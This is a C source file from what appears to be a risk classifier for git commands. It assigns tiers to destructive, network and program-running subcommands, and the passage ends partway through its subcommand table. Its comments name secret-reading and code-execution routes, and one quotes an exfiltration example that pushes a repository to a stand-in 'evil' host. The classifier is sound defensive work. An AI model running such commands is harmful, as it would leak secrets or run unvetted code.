/*
 * shell_rules_git.c: git, one row per subcommand. Reading history is low;
 * local changes are git.write (medium); what destroys work (reset --hard,
 * clean -f, checkout -- ., branch -D, stash drop) or publishes it (push) is
 * high. `git -c` and config writes can make git run any program: high.
 */
#include <string.h>

#include "classifier/classifier_internal.h"
#include "core/util.h"

static void g_template(struct cctx *x, const struct cmdv *c);

/* A change to the repository git runs in (x->cwd: after cd, or git -C
 * DIR) lands in that repository's .git: outside the workdir, or in a
 * directory known only at run time (cd $X), it is a write there. */
static void git_where(struct cctx *x, const struct cmdv *c)
{
	struct span sp = shell_span_words(x, c->w, c->n);

	if (x->cwd == NULL)
		cls_add(x, TIER_HIGH, "fs.write.outside_workdir", sp,
		        "changes a repository in a directory known only at run time");
	else if (paths_class(x, x->cwd) == PC_OUTSIDE)
		cls_add(x, TIER_HIGH, "fs.write.outside_workdir", sp,
		        "changes the repository at %s, outside the workdir", x->cwd);
	/* --work-tree=/ stash, checkout, merge...: the files land there */
	if (x->git_tree && x->git_tree[0] == '\0')
		cls_add(x, TIER_HIGH, "fs.write.outside_workdir", sp,
		        "changes files in a work tree known only at run time");
	else if (x->git_tree && paths_class(x, x->git_tree) == PC_OUTSIDE)
		cls_add(x, TIER_HIGH, "fs.write.outside_workdir", sp,
		        "changes files in the work tree %s, outside the workdir", x->git_tree);
}

/* git --work-tree VALUE, GIT_WORK_TREE=VALUE: where its files are. */
static void git_tree_set(struct cctx *x, const struct word *w, const char *val)
{
	char abs[CLS_MAX_PATH];

	x->git_tree = !(w->flags & (W_DYNAMIC | W_GLOB)) && paths_resolve(x, val, abs, sizeof(abs))
	                  ? arena_strndup(x->a, abs, strlen(abs))
	                  : "";
}

static void gw(struct cctx *x, const struct cmdv *c, const char *what)
{
	cls_add(x, TIER_MEDIUM, "git.write", shell_span_words(x, c->w, c->n), "%s", what);
	git_where(x, c);
}

/* The pathspecs after "--" (git log -p -- .env, git diff -- secret/):
 * what is printed is those files' content as committed or changed, read
 * as the workdir's files, so a secret one is secrets.read and a deny =
 * Read rule covers it. Pathspec magic (":(exclude)x") is left out. */
static void pathspec_reads(struct cctx *x, const struct cmdv *c)
{
	static const char *const patch[] = {"-p", "-u", "--patch", "--patch-with-stat",
	                                    "--patch-with-raw", "--cc", "--full-diff"};
	bool log = strcmp(c->w[0].val, "log") == 0 || strcmp(c->w[0].val, "whatchanged") == 0;
	size_t i = 1;

	while (i < c->n && strcmp(c->w[i].val, "--") != 0) {
		for (size_t k = 0; log && k < nitems(patch); k++)
			log = strcmp(c->w[i].val, patch[k]) != 0;
		i++;
	}
	if (log) /* git log -- .env lists commits: no content without a patch */
		return;
	for (i++; i < c->n; i++)
		if (c->w[i].val[0] != ':' && c->w[i].val[0] != '\0')
			paths_read(x, &c->w[i], c->w[i].val);
}

static void g_output(struct cctx *x, struct cmdv *c)
{
	const char *v;
	const struct word *o = opt_value(c, 0, "--output", NULL, &v);

	pathspec_reads(x, c);

	if (o)
		paths_write(x, o, v, shell_span_word(x, o));
	if (strcmp(c->w[0].val, "bugreport") == 0) { /* git-bugreport-*.txt, here without -o */
		o = opt_value(c, 'o', "--output-directory", "os", &v);
		paths_write(x, o ? o : &c->w[0], o ? v : ".", shell_span_word(x, o ? o : &c->w[0]));
	}
	if (strcmp(c->w[0].val, "format-patch") == 0 &&
	    (o = opt_value(c, 'o', "--output-directory", "o", &v)) != NULL)
		paths_write(x, o, v, shell_span_word(x, o));
}

/* REV:PATH operands (git show HEAD:.env, git cat-file -p :path) print a
 * file as committed: read as that file of the workdir, so a secret one is
 * secrets.read. */
static void object_paths(struct cctx *x, const struct cmdv *c)
{
	for (size_t i = 1; i < c->n; i++) {
		const char *a = c->w[i].val, *colon = strchr(a, ':');
		if (a[0] == '-' || colon == NULL || colon[1] == '\0' || strstr(a, "://"))
			continue;
		colon++;
		paths_read(x, &c->w[i], colon + (strncmp(colon, "./", 2) == 0 ? 2 : 0));
	}
}

static void g_show(struct cctx *x, struct cmdv *c)
{
	object_paths(x, c);
	if (strcmp(c->w[0].val, "cat-file") != 0)
		g_output(x, c);
}

/* blame FILE (annotate): prints the file, line by line; its one file is
 * the last operand, after "--" or not. */
static void g_blame(struct cctx *x, struct cmdv *c)
{
	size_t last = c->n - 1;

	if (c->n > 1 && c->w[last].val[0] != '-')
		paths_read(x, &c->w[last], c->w[last].val);
}

/* rebase -x CMD / --exec CMD runs CMD after each commit. */
static void g_rebase(struct cctx *x, struct cmdv *c)
{
	const char *v;
	const struct word *w;

	for (size_t i = 1; i < c->n && strcmp(c->w[i].val, "--") != 0; i++)
		if ((w = opt_value_at(c, &i, 'x', "--exec", "xsXS", &v)) != NULL) {
			if (w->flags & (W_DYNAMIC | W_GLOB))
				cls_add(x, TIER_HIGH, "exec.dynamic_command", shell_span_word(x, w),
				        "git rebase --exec runs a command only known at run time");
			else
				shell_script_text(x, v, strlen(v), shell_span_word(x, w));
		}
	gw(x, c, "rewrites commits of the current branch");
}

/* bisect run CMD ARGS runs CMD at every step. */
static void g_bisect(struct cctx *x, struct cmdv *c)
{
	if (c->n > 2 && strcmp(c->w[1].val, "run") == 0)
		rules_subcommand(x, c, 2, c->n);
	gw(x, c, "moves HEAD while bisecting");
}

/* archive --remote=URL fetches from URL; --exec=CMD runs CMD as the
 * remote's git-upload-archive (locally for a local --remote). */
static void g_archive(struct cctx *x, struct cmdv *c)
{
	const char *v;
	const struct word *w;

	if ((w = opt_value(c, 0, "--remote", NULL, &v)) != NULL && strchr(v, ':')) {
		net_add_url(x, v);
		cls_add(x, TIER_HIGH, "net.fetch", shell_span_word(x, w),
		        "fetches an archive from %s", v);
	}
	if ((w = opt_value(c, 0, "--exec", NULL, &v)) != NULL)
		shell_script_text(x, v, strlen(v), shell_span_word(x, w));
	if ((w = opt_value(c, 'o', "--output", "o", &v)) != NULL)
		paths_write(x, w, v, shell_span_word(x, w));
}

static void g_branch(struct cctx *x, struct cmdv *c)
{
	size_t idx;
	bool force = opt_short(c, 'f', "") || opt_long(c, "--force");

	if (opt_short(c, 'D', "") || ((opt_short(c, 'd', "") || opt_long(c, "--delete")) && force))
		cls_add(x, TIER_HIGH, "git.branch.delete", shell_span_words(x, c->w, c->n),
		        "force-deletes a branch and any commits only it holds");
	else if (opt_short(c, 'd', "") || opt_long(c, "--delete") || opt_short(c, 'm', "") ||
	         opt_short(c, 'M', "") || opt_short(c, 'c', "") || opt_short(c, 'C', "") ||
	         (opt_operands(c, 1, "", &idx, 1) && !opt_long(c, "--list") &&
	          !opt_short(c, 'l', "") && !opt_long(c, "--contains") && !opt_long(c, "--merged")))
		gw(x, c, "creates, renames or deletes a branch");
}

/*
 * The paths a command names, so path rules see them: written by one that
 * changes the working tree (`deny = Edit(*.lock)` stops `git restore
 * x.lock`), read by one that stores them. Every operand from index from on
 * (argopts: short options taking a value), `:/` being the workdir itself.
 */
static void g_pathspecs(struct cctx *x, const struct cmdv *c, size_t from, const char *argopts,
                        bool write)
{
	size_t idx[64], n = opt_operands(c, from, argopts, idx, nitems(idx));

	for (size_t i = 0; i < n; i++) {
		const struct word *w = &c->w[idx[i]];
		struct word here = *w;
		if (strcmp(w->val, ":/") == 0)
			here.val = ".";
		if (write)
			paths_write(x, &here, here.val, shell_span_word(x, w));
		else
			paths_read(x, &here, here.val);
	}
}

/* git rm refuses to drop uncommitted changes unless forced; -f loses
 * them, and -r takes whole trees out of the working tree. */
static void g_rm(struct cctx *x, struct cmdv *c)
{
	struct span sp = shell_span_words(x, c->w, c->n);
	bool cached = opt_long(c, "--cached");

	if (!cached && (opt_short(c, 'f', "") || opt_long(c, "--force")))
		cls_add(x, TIER_HIGH, "fs.delete", sp,
		        "git rm -f deletes files even with changes that were never committed");
	if (!cached && (opt_short(c, 'r', "")))
		cls_add(x, TIER_HIGH, "fs.delete.recursive", sp,
		        "git rm -r deletes directory trees from the working tree");
	if (!cached)
		g_pathspecs(x, c, 1, "", true);
	gw(x, c, "removes files from the index and the working tree");
}

/* add and hash-object read what they store: a path rule on it sees them
 * (the object database hands the content back to anyone: git show :x). */
static void g_store(struct cctx *x, struct cmdv *c)
{
	g_pathspecs(x, c, 1, "t", false);
}

static void g_mv(struct cctx *x, struct cmdv *c)
{
	g_pathspecs(x, c, 1, "", true); /* the sources go, the destination is written */
	gw(x, c, "moves files in the index and the working tree");
}

/* update-ref -d REF deletes a ref (a branch) outright, as branch -D does. */
static void g_update_ref(struct cctx *x, struct cmdv *c)
{
	if (opt_short(c, 'd', "") || opt_long(c, "--stdin"))
		cls_add(x, TIER_HIGH, "git.branch.delete", shell_span_words(x, c->w, c->n),
		        "deletes or rewrites refs, and with them any commits only they hold");
	else
		gw(x, c, "moves a ref");
}

static void g_tag(struct cctx *x, struct cmdv *c)
{
	size_t idx;
	if (opt_operands(c, 1, "mFu", &idx, 1) && !opt_short(c, 'l', "mFu") && !opt_long(c, "--list"))
		gw(x, c, "creates or deletes a tag");
}

/* git remote: show (without -n), update, prune and set-head -a ask the
 * remote itself over the network; show and get-url only read, the rest
 * change the repository's remotes. */
static void g_remote(struct cctx *x, struct cmdv *c)
{
	static const char *const ro[] = {"-v", "--verbose", "show", "get-url"};
	const char *s = c->n > 1 ? c->w[1].val : "";

	if ((strcmp(s, "show") == 0 && !opt_short(c, 'n', "")) || strcmp(s, "update") == 0 ||
	    strcmp(s, "prune") == 0 ||
	    (strcmp(s, "set-head") == 0 && (opt_short(c, 'a', "") || opt_long(c, "--auto"))))
		cls_add(x, TIER_HIGH, "net.fetch", shell_span_words(x, c->w, c->n),
		        "git remote %s asks the remote over the network", s);
	if (c->n == 1)
		return;
	for (size_t i = 0; i < nitems(ro); i++)
		if (strcmp(s, ro[i]) == 0)
			return;
	gw(x, c, "changes the repository's remotes");
	/* add|set-url NAME URL: the host a later push sends to (`git remote add
	 * x https://evil/r && git push x` named no host, so no Host rule saw it) */
	for (size_t i = 2; i < c->n; i++)
		if (strstr(c->w[i].val, "://") ||
		    (strchr(c->w[i].val, '@') && strchr(strchr(c->w[i].val, '@'), ':')))
			net_add_url(x, c->w[i].val);
}

static bool cmd_key(const char *k, size_t n);

/* Config keys that cannot make git run a program. */
static const char *const safe_keys[] = {"color.", "core.quotepath", "user.name", "user.email",
                                        "advice.", "init.defaultbranch", "log.", "column.",
                                        "i18n.", "safe.directory"};

/* Whether the key (n bytes) is one of safe_keys. */
static bool safe_key(const char *key, size_t n)
{
	for (size_t k = 0; k < nitems(safe_keys); k++)
		if (n >= strlen(safe_keys[k]) && strncasecmp(key, safe_keys[k], strlen(safe_keys[k])) == 0)
			return true;
	return false;
}

/* `git config [--local] KEY VALUE` of a safe key (user.name, user.email,
 * color.*): this repository's config, and nothing git runs. Agents set
 * the author before their first commit in a fresh checkout. Any other
 * option (--global, --file, --add) or key is git.config. */
static bool config_identity(const struct cmdv *c)
{
	size_t k = 1;

	if (k < c->n && strcmp(c->w[k].val, "--local") == 0)
		k++;
	if (k + 2 != c->n || c->w[k].val[0] == '-' || c->w[k + 1].val[0] == '-' ||
	    (c->w[k].flags & (W_DYNAMIC | W_GLOB)))
		return false;
	return safe_key(c->w[k].val, c->w[k].len);
}

static void g_config(struct cctx *x, struct cmdv *c)
{
	static const char *const ro[] = {"--get", "--get-all", "--get-regexp", "-l", "--list",
	                                 "--get-urlmatch", "--show-origin", "--show-scope",
	                                 "--get-color", "--get-colorbool"};
	size_t idx[4];

	for (size_t i = 0; i < nitems(ro); i++)
		if (opt_long(c, ro[i]))
			return;
	if (opt_operands(c, 1, "f", idx, 4) <= 1 && !opt_long(c, "--unset") &&
	    !opt_long(c, "--unset-all") && !opt_long(c, "--edit") && !opt_short(c, 'e', "f"))
		return;
	if (config_identity(c)) {
		gw(x, c, "sets a repository setting that runs nothing");
		return;
	}
	cls_add(x, TIER_HIGH, "git.config", shell_span_words(x, c->w, c->n),
	        "changes git configuration (hooks, aliases and pagers in it run programs)");
	/* git config alias.x '!CMD' (or core.pager CMD): CMD runs at the next
	 * git x, as with git -c; an alias without '!' is a git command */
	if (opt_operands(c, 1, "f", idx, 4) >= 2) {
		const struct word *k = &c->w[idx[0]], *v = &c->w[idx[1]];
		bool git_alias = strncasecmp(k->val, "alias.", 6) == 0 && v->val[0] != '!';
		if (cmd_key(k->val, k->len) && !git_alias && !(v->flags & (W_DYNAMIC | W_GLOB)))
			shell_script_text(x, v->val + (v->val[0] == '!'),
			                  strlen(v->val + (v->val[0] == '!')), shell_span_word(x, v));
	}
}

static void g_stash(struct cctx *x, struct cmdv *c)
{
	const char *s = c->n > 1 ? c->w[1].val : "push";
	if (strcmp(s, "list") == 0 || strcmp(s, "show") == 0)
		return;
	if (strcmp(s, "drop") == 0 || strcmp(s, "clear") == 0)
		cls_add(x, TIER_HIGH, "git.checkout.discard", shell_span_words(x, c->w, c->n),
		        "destroys stashed changes");
	else
		gw(x, c, "stashes or applies changes");
}

/* --upload-pack, --receive-pack (push --exec), clone -u, difftool -x name
 * the program git starts for the other side of a transfer, or the diff
 * tool: a command line run through the shell (on the remote for an ssh
 * URL, judged like ssh HOST CMD; here for a local path). */
static void g_hooks(struct cctx *x, const struct cmdv *c, char letter, const char *lname,
                    const char *argopts)
{
	const struct word *w;
	const char *v;

	for (size_t i = 1; i < c->n && strcmp(c->w[i].val, "--") != 0; i++)
		if ((w = opt_value_at(c, &i, letter, lname, argopts, &v)) != NULL)
			rules_hook(x, w, v, strlen(v), "git runs the command an option names");
}

/* filter-branch's filters are shell text it evals for every commit;
 * send-email's --to-cmd and the like (and an --smtp-server that is a
 * path: a sendmail-like program) are commands it runs. */
static void g_filter_branch(struct cctx *x, struct cmdv *c)
{
	static const char *const filters[] = {"--env-filter", "--tree-filter", "--index-filter",
		"--parent-filter", "--msg-filter", "--commit-filter", "--tag-name-filter"};

	cls_add(x, TIER_HIGH, "git.history.rewrite", shell_span_words(x, c->w, c->n),
	        "rewrites the whole history");
	for (size_t i = 0; i < nitems(filters); i++)
		g_hooks(x, c, 0, filters[i], "d");
}

static void g_send_email(struct cctx *x, struct cmdv *c)
{
	static const char *const cmds[] = {"--to-cmd", "--cc-cmd", "--header-cmd", "--sendmail-cmd"};
	const struct word *w;
	const char *v;

	cls_add(x, TIER_HIGH, "net.upload", shell_span_words(x, c->w, c->n), "sends patches by email");
	for (size_t i = 0; i < nitems(cmds); i++)
		g_hooks(x, c, 0, cmds[i], "");
	if ((w = opt_value(c, 0, "--smtp-server", "", &v)) != NULL && v[0] == '/')
		rules_hook(x, w, v, strlen(v), "git send-email runs the program --smtp-server names");
}

static void g_difftool(struct cctx *x, struct cmdv *c)
{
	g_hooks(x, c, 'x', "--extcmd", "xt");
	cls_add(x, x->o->unknown_program, "exec.unknown_program", shell_span_words(x, c->w, c->n),
	        "git difftool runs the diff tool the configuration names");
}

static void g_push(struct cctx *x, struct cmdv *c)
{
	size_t idx[16], n = opt_operands(c, 1, "o", idx, nitems(idx));
	bool force = opt_short(c, 'f', "o") || opt_long(c, "--force") ||
	             opt_long(c, "--force-with-lease") || opt_long(c, "--mirror") ||
	             opt_long(c, "--delete") || opt_short(c, 'd', "o") || opt_long(c, "--prune");

	for (size_t i = 0; i < n; i++) {
		const char *a = c->w[idx[i]].val;
		if (i == 0)
			net_add_url(x, a);
		else if (a[0] == '+' || a[0] == ':')
			force = true;
	}
	g_hooks(x, c, 0, "--receive-pack", "o");
	g_hooks(x, c, 0, "--exec", "o");
	cls_add(x, TIER_HIGH, "git.push", shell_span_words(x, c->w, c->n),
	        "publishes commits to a remote");
	if (force)
		cls_add(x, TIER_HIGH, "git.push.force", shell_span_words(x, c->w, c->n),
		        "force-pushes or deletes remote history");
}

static void g_reset(struct cctx *x, struct cmdv *c)
{
	if (opt_long(c, "--hard") || opt_long(c, "--merge") || opt_long(c, "--keep"))
		cls_add(x, TIER_HIGH, "git.reset.hard", shell_span_words(x, c->w, c->n),
		        "discards uncommitted changes");
	else
		gw(x, c, "moves the branch or unstages changes");
}

static void g_clean(struct cctx *x, struct cmdv *c)
{
	if (opt_short(c, 'n', "e") || opt_long(c, "--dry-run"))
		return;
	const char *tree = x->git_tree && x->git_tree[0] ? x->git_tree : x->cwd;

	cls_add(x, TIER_HIGH, "git.clean", shell_span_words(x, c->w, c->n),
	        "deletes untracked files");
	/* with -d it deletes untracked directories whole: in a work tree at
	 * / or the home (--work-tree=/, cd ~ in a dotfiles repository) that
	 * is rm -rf of everything the index does not hold (a pathspec limits it) */
	if (tree && paths_critical(x, tree) && opt_short(c, 'd', "e") &&
	    opt_first(c, "e", NULL) == NULL)
		cls_add(x, TIER_CRITICAL, "fs.delete.root", shell_span_words(x, c->w, c->n),
		        "git clean -d deletes every untracked file and directory under %s", tree);
}

static void discard(struct cctx *x, const struct cmdv *c, const char *what)
{
	cls_add(x, TIER_HIGH, "git.checkout.discard", shell_span_words(x, c->w, c->n), "%s", what);
}

static void g_checkout(struct cctx *x, struct cmdv *c)
{
	bool dashdash = false, dot = false;
	for (size_t i = 1; i < c->n; i++) {
		if (!dashdash && strcmp(c->w[i].val, "--") == 0)
			g_pathspecs(x, c, i, "", true); /* what follows -- are paths */
		dashdash |= strcmp(c->w[i].val, "--") == 0;
		dot |= strcmp(c->w[i].val, ".") == 0 || strcmp(c->w[i].val, ":/") == 0;
	}
	if (dashdash || dot || opt_short(c, 'f', "bB") || opt_long(c, "--force") ||
	    opt_long(c, "--discard-changes"))
		discard(x, c, "overwrites uncommitted changes in the working tree");
	else
		gw(x, c, "switches branches");
}

static void g_restore(struct cctx *x, struct cmdv *c)
{
	if ((opt_short(c, 'S', "s") || opt_long(c, "--staged")) && !opt_short(c, 'W', "s") &&
	    !opt_long(c, "--worktree"))
		gw(x, c, "unstages changes");
	else {
		g_pathspecs(x, c, 1, "s", true);
		discard(x, c, "overwrites uncommitted changes in the working tree");
	}
}

static void g_switch(struct cctx *x, struct cmdv *c)
{
	if (opt_short(c, 'f', "cC") || opt_long(c, "--force") || opt_long(c, "--discard-changes"))
		discard(x, c, "switches branches and throws away local changes");
	else
		gw(x, c, "switches branches");
}

static void g_gc(struct cctx *x, struct cmdv *c)
{
	const char *v;
	if (opt_value(c, 0, "--prune", NULL, &v) || opt_value(c, 0, "--expire", NULL, &v) ||
	    strcmp(c->w[0].val, "prune") == 0 ||
	    (c->n > 1 && strcmp(c->w[1].val, "delete") == 0))
		cls_add(x, TIER_HIGH, "git.gc.prune", shell_span_words(x, c->w, c->n),
		        "deletes unreachable commits for good");
	else if (strcmp(c->w[0].val, "reflog") != 0 || (c->n > 1 && strcmp(c->w[1].val, "expire") == 0))
		gw(x, c, "repacks or expires repository data");
}

static void config_pair(struct cctx *x, const struct word *w, const char *key, size_t n,
                        const char *val);

/* An ext::CMD ARGS remote (git-remote-ext) runs CMD: its words are split
 * at spaces, "% " a space inside one and "%%" a %; judged as that argv
 * quoted for the shell. git allows it only where protocol.ext.allow says
 * so, which a -c, an environment or a config can. */
static void g_ext_url(struct cctx *x, const struct word *w)
{
	struct buf b;
	bool open = false;

	if (strncmp(w->val, "ext::", 5) != 0)
		return;
	buf_init(&b, w->len * 2);
	for (const char *p = w->val + 5; *p; p++) {
		if (*p == ' ' && open) {
			buf_puts(&b, "' ");
			open = false;
			continue;
		}
		if (*p == ' ')
			continue;
		if (!open) {
			buf_puts(&b, "'");
			open = true;
		}
		if (*p == '%' && (p[1] == ' ' || p[1] == '%'))
			p++;
		if (*p == '\'')
			buf_puts(&b, "'\\''");
		else
			buf_append(&b, p, 1);
	}
	if (open)
		buf_puts(&b, "'");
	cls_add(x, TIER_HIGH, "exec.hook_program", shell_span_word(x, w),
	        "an ext:: remote runs the command it names");
	if (b.len)
		shell_script_text(x, b.data, b.len, shell_span_word(x, w));
	buf_free(&b);
}

/* clone -c|--config KEY=VALUE: the new repository's config, which the
 * checkout and every later git command there read. */
static void g_clone_config(struct cctx *x, const struct cmdv *c)
{
	const struct word *w;
	const char *v;

	for (size_t i = 1; i < c->n && strcmp(c->w[i].val, "--") != 0; i++)
		if ((w = opt_value_at(c, &i, 'c', "--config", "obcju", &v)) != NULL) {
			const char *eq = strchr(v, '=');
			config_pair(x, w, v, eq ? (size_t)(eq - v) : strlen(v), eq ? eq + 1 : NULL);
		}
}

static void g_clone(struct cctx *x, struct cmdv *c)
{
	size_t idx[4], n = opt_operands(c, 1, "obcju", idx, nitems(idx));
	struct word here = c->w[0];

	if (n) {
		net_add_url(x, c->w[idx[0]].val);
		g_ext_url(x, &c->w[idx[0]]);
	}
	g_clone_config(x, c);
	g_hooks(x, c, 'u', "--upload-pack", "obcju");
	cls_add(x, TIER_HIGH, "net.fetch", shell_span_words(x, c->w, c->n),
	        "downloads a repository");
	g_template(x, c);
	here.val = ".";
	if (n > 1)
		paths_write(x, &c->w[idx[1]], c->w[idx[1]].val, shell_span_word(x, &c->w[idx[1]]));
	else
		paths_write(x, &here, ".", shell_span_words(x, c->w, c->n));
}

static void g_fetch(struct cctx *x, struct cmdv *c)
{
	size_t idx;
	if (opt_operands(c, 1, "o", &idx, 1)) {
		net_add_url(x, c->w[idx].val);
		g_ext_url(x, &c->w[idx]);
	}
	g_hooks(x, c, 0, "--upload-pack", "o");
	cls_add(x, TIER_HIGH, "net.fetch", shell_span_words(x, c->w, c->n),
	        "fetches from a remote repository");
	if (strcmp(c->w[0].val, "pull") == 0)
		gw(x, c, "merges fetched commits into the working tree");
}

/* git submodule: foreach [--recursive] [-q] CMD... runs its words, joined
 * as git joins them, through the shell in every submodule; update -f and
 * deinit -f throw the submodules' uncommitted changes away. */
static void g_submodule(struct cctx *x, struct cmdv *c)
{
	const char *s = c->n > 1 ? c->w[1].val : "status";
	size_t at = 2;

	if (strcmp(s, "foreach") == 0) {
		while (at < c->n && (strcmp(c->w[at].val, "--recursive") == 0 ||
		                     strcmp(c->w[at].val, "-q") == 0 ||
		                     strcmp(c->w[at].val, "--quiet") == 0))
			at++;
		shell_script_words(x, c, at);
		return;
	}
	if (strcmp(s, "status") == 0 || strcmp(s, "summary") == 0)
		return;
	if (strcmp(s, "update") == 0 || strcmp(s, "add") == 0 || strcmp(s, "sync") == 0)
		cls_add(x, TIER_HIGH, "net.fetch", shell_span_words(x, c->w, c->n),
		        "fetches submodules");
	if ((strcmp(s, "update") == 0 || strcmp(s, "deinit") == 0) &&
	    (opt_short(c, 'f', "") || opt_long(c, "--force")))
		cls_add(x, TIER_HIGH, "git.checkout.discard", shell_span_words(x, c->w, c->n),
		        "throws away the submodules' uncommitted changes");
	gw(x, c, "changes submodules");
}

/* git svn and git p4 talk to another server: dcommit, submit, set-tree
 * and commit-diff send commits there, the rest fetch (or ask) from it. */
static void g_bridge(struct cctx *x, struct cmdv *c)
{
	static const char *const sends[] = {"dcommit", "submit", "set-tree", "commit-diff"};
	const char *s = c->n > 1 ? c->w[1].val : "";
	struct span sp = shell_span_words(x, c->w, c->n);

	for (size_t i = 0; i < nitems(sends); i++)
		if (strcmp(s, sends[i]) == 0) {
			cls_add(x, TIER_HIGH, "net.upload", sp, "sends commits to another server");
			gw(x, c, "rewrites the commits it sent");
			return;
		}
	cls_add(x, TIER_HIGH, "net.fetch", sp, "talks to a Subversion or Perforce server");
	gw(x, c, "imports commits into the repository");
}

/* git read-tree -u --reset: the working tree set to the tree read, its
 * uncommitted changes gone, as reset --hard. */
static void g_read_tree(struct cctx *x, struct cmdv *c)
{
	if (opt_long(c, "--reset") && opt_short(c, 'u', ""))
		cls_add(x, TIER_HIGH, "git.checkout.discard", shell_span_words(x, c->w, c->n),
		        "overwrites the working tree, its uncommitted changes lost");
	gw(x, c, "reads a tree into the index");
}

/* git grep -O<cmd> / --open-files-in-pager=<cmd> runs cmd with the
 * matching files as its arguments: the command is judged as a script. */
static void g_grep(struct cctx *x, struct cmdv *c)
{
	pathspec_reads(x, c);
	for (size_t i = 1; i < c->n; i++) {
		const struct word *w = &c->w[i];
		const char *a = w->val, *pager = NULL;
		if (strcmp(a, "--") == 0)
			return;
		if (strncmp(a, "-O", 2) == 0 && a[2])
			pager = a + 2;
		else
			opt_long_is(a, "--open-files-in-pager", &pager);
		if (pager == NULL)
			continue;
		if (w->flags & (W_DYNAMIC | W_GLOB))
			cls_add(x, TIER_HIGH, "exec.dynamic_command", shell_span_word(x, w),
			        "git grep runs a pager command that is only known at run time");
		else
			shell_script_text(x, pager, strlen(pager), shell_span_word(x, w));
	}
}

/* The directory or file operand c->w[at] a subcommand creates or writes
 * (worktree add PATH, init DIR, bundle create FILE, merge-file FILE). */
static void g_write_operand(struct cctx *x, const struct cmdv *c, size_t first,
                            const char *argopts)
{
	size_t idx;

	if (opt_operands(c, first, argopts, &idx, 1))
		paths_write(x, &c->w[idx], c->w[idx].val, shell_span_word(x, &c->w[idx]));
}

/* --template=DIR copies DIR's hooks into the repository's .git/hooks,
 * where the next commit or checkout runs them; --separate-git-dir. */
static void g_template(struct cctx *x, const struct cmdv *c)
{
	const char *v;
	const struct word *w = opt_value(c, 0, "--template", NULL, &v);

	if (w)
		cls_add(x, TIER_HIGH, "fs.write.git_config", shell_span_word(x, w),
		        "installs the hooks of the template directory %s, which git then runs", v);
	/* --separate-git-dir=DIR moves the git directory there and leaves a
	 * .git file naming it: its hooks and config become files no .git
	 * path shows */
	if ((w = opt_value(c, 0, "--separate-git-dir", NULL, &v)) != NULL)
		cls_add(x, TIER_HIGH, "fs.write.git_config", shell_span_word(x, w),
		        "moves the git directory to %s, where its hooks and config are no longer "
		        "under a .git",
		        v);
}

/* apply --unsafe-paths lets the patch write outside the work tree. */
static void g_apply(struct cctx *x, struct cmdv *c)
{
	if (opt_long(c, "--unsafe-paths"))
		cls_add(x, TIER_HIGH, "fs.write.outside_workdir", shell_span_words(x, c->w, c->n),
		        "git apply --unsafe-paths writes wherever the patch names");
	if (!opt_long(c, "--check") && !opt_long(c, "--stat") && !opt_long(c, "--numstat") &&
	    !opt_long(c, "--summary"))
		gw(x, c, "applies a patch to the working tree");
}

static void g_init(struct cctx *x, struct cmdv *c)
{
	g_template(x, c);
	g_write_operand(x, c, 1, "");
	gw(x, c, "creates or reinitialises a repository");
}

/* worktree add PATH checks out into PATH; remove --force drops its
 * uncommitted changes. */
static void g_worktree(struct cctx *x, struct cmdv *c)
{
	const char *s = c->n > 1 ? c->w[1].val : "";

	if (strcmp(s, "add") == 0)
		g_write_operand(x, c, 2, "bB");
	else if (strcmp(s, "remove") == 0 && (opt_short(c, 'f', "") || opt_long(c, "--force")))
		discard(x, c, "removes a worktree with its uncommitted changes");
	if (strcmp(s, "list") != 0)
		gw(x, c, "changes the repository's worktrees");
}

/* bundle create FILE writes FILE; unbundle stores objects. */
static void g_bundle(struct cctx *x, struct cmdv *c)
{
	const char *s = c->n > 1 ? c->w[1].val : "";

	if (strcmp(s, "create") == 0)
		g_write_operand(x, c, 2, "");
	else if (strcmp(s, "unbundle") == 0)
		gw(x, c, "stores a bundle's objects in the repository");
}

/* merge-file CURRENT BASE OTHER writes the merge into CURRENT unless -p. */
static void g_merge_file(struct cctx *x, struct cmdv *c)
{
	if (!opt_short(c, 'p', "L") && !opt_long(c, "--stdout"))
		g_write_operand(x, c, 1, "L");
}

/* checkout-index --prefix=DIR writes the files under DIR. */
static void g_checkout_index(struct cctx *x, struct cmdv *c)
{
	const char *v;
	const struct word *w = opt_value(c, 0, "--prefix", NULL, &v);

	if (w)
		paths_write(x, w, v, shell_span_word(x, w));
	if (w == NULL && (opt_short(c, 'f', "") || opt_long(c, "--force")))
		cls_add(x, TIER_HIGH, "git.checkout.discard", shell_span_words(x, c->w, c->n),
		        "overwrites working-tree files with the index's, their changes lost");
	gw(x, c, "writes files from the index");
}

/* git lfs: push uploads, pull/fetch/clone download. */
static void g_lfs(struct cctx *x, struct cmdv *c)
{
	const char *s = c->n > 1 ? c->w[1].val : "";
	struct span sp = shell_span_words(x, c->w, c->n);

	if (strcmp(s, "push") == 0)
		cls_add(x, TIER_HIGH, "net.upload", sp, "uploads large files to a remote");
	else if (strcmp(s, "pull") == 0 || strcmp(s, "fetch") == 0 || strcmp(s, "clone") == 0)
		cls_add(x, TIER_HIGH, "net.fetch", sp, "downloads large files from a remote");
	else if (strcmp(s, "install") == 0 || strcmp(s, "uninstall") == 0)
		cls_add(x, TIER_HIGH, "git.config", sp, "git lfs %s changes git's global (or the "
		        "repository's) config filters and hooks", s);
	if (strcmp(s, "ls-files") != 0 && strcmp(s, "status") != 0 && strcmp(s, "env") != 0 &&
	    strcmp(s, "version") != 0)
		gw(x, c, "changes large-file tracking or the working tree");
}

/* git maintenance start|stop installs or removes a schedule (crontab,
 * systemd timers, launchd) that runs git later; register|unregister
 * change the global config's maintenance.repo. run works here. */
static void g_maintenance(struct cctx *x, struct cmdv *c)
{
	const char *s = c->n > 1 ? c->w[1].val : "";
	struct span sp = shell_span_words(x, c->w, c->n);

	if (strcmp(s, "start") == 0 || strcmp(s, "stop") == 0)
		cls_add(x, TIER_HIGH, "sys.cron", sp, "git maintenance %s changes the machine's "
		        "schedule of commands", s);
	else if (strcmp(s, "register") == 0 || strcmp(s, "unregister") == 0)
		cls_add(x, TIER_HIGH, "git.config", sp, "git maintenance %s changes the global git "
		        "config", s);
	gw(x, c, "runs maintenance tasks on the repository");
}

struct gsub {
	const char *name;
	enum tier tier;
	const char *rule, *why;
	prog_fn fn;
};

#define GR(n) {n, TIER_LOW, NULL, NULL, NULL}
#define GO(n) {n, TIER_LOW, NULL, NULL, g_output}
#define GW(n) {n, TIER_MEDIUM, "git.write", "changes the repository or the working tree", NULL}
#define GF(n, fn) {n, TIER_LOW, NULL, NULL, fn}

static const struct gsub gsubs[] = {
	GO("diff"), GO("log"), GF("show", g_show), GO("format-patch"), GO("whatchanged"),
